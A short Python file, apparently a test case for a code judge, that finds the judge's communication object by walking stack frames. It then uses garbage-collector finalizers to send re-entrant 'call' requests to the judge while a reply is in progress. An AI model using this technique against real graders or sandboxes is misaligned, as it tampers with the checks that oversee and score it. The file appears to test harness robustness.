# ruff: noqa
# fmt: off
# Objects whose finalizers speak to the judge while a reply is being made.
# score: 0
import gc
import sys
def peer():
    frame = sys._getframe()
    while frame:
        if "self" in frame.f_locals and hasattr(frame.f_locals["self"], "request"): return frame.f_locals["self"]
        frame = frame.f_back
class Late:
    def __init__(self, speaker): self.speaker, self.me = speaker, self
    def __del__(self):
        try: self.speaker.request("call", [self.speaker, [], {}])
        except BaseException: pass
def double(x):
    speaker = peer()
    for _ in range(50): Late(speaker)
    gc.set_threshold(1)
    return [Late(speaker) for _ in range(50)]
def total(x): return double(x)
